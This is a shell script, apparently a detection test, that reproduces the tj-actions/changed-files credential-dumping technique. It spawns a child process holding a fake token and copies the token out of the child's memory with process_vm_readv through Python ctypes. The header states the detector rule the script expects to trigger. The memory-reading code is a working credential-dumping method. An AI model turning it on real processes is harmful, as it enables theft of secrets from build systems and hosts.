#!/bin/sh
# technique: T1003 OS Credential Dumping (process_vm_readv, no file opened)
# reproduces: tj-actions/changed-files (2025) memory dump done without /proc/PID/mem: process_vm_readv(2) through ctypes, which no file open shows
# expect: process-vm-access ^python3(\.[0-9]+)?$
# exec-borne: no
#
# A child holds a fake secret and reports its address; the parent copies
# it out of the child's address space with process_vm_readv.
set -u

command -v python3 >/dev/null 2>&1 || { echo "python3 not installed" >&2; exit 77; }

python3 - <<'PY'
import ctypes
import os
import subprocess
import sys

CHILD = r"""
import ctypes, sys, time
secret = ctypes.create_string_buffer(b'{"BW_FAKE_TOKEN":{"value":"not-a-real-secret-4567","isSecret":true}}')
sys.stdout.write("%d %d\n" % (ctypes.addressof(secret), len(secret.value)))
sys.stdout.flush()
time.sleep(5)
"""

class iovec(ctypes.Structure):
    _fields_ = [("iov_base", ctypes.c_void_p), ("iov_len", ctypes.c_size_t)]

libc = ctypes.CDLL(None, use_errno=True)
libc.process_vm_readv.restype = ctypes.c_ssize_t
libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.POINTER(iovec), ctypes.c_ulong,
                                  ctypes.POINTER(iovec), ctypes.c_ulong, ctypes.c_ulong]

child = subprocess.Popen([sys.executable, "-c", CHILD], stdout=subprocess.PIPE)
try:
    addr, size = map(int, child.stdout.readline().split())
    buf = ctypes.create_string_buffer(size)
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), size)
    remote = iovec(addr, size)
    n = libc.process_vm_readv(child.pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if n != size:
        sys.exit("process_vm_readv: %s" % os.strerror(ctypes.get_errno()))
    print("read %d bytes: %s" % (n, "isSecret" in buf.raw.decode("ascii", "replace")))
finally:
    child.kill()
    child.wait()
PY
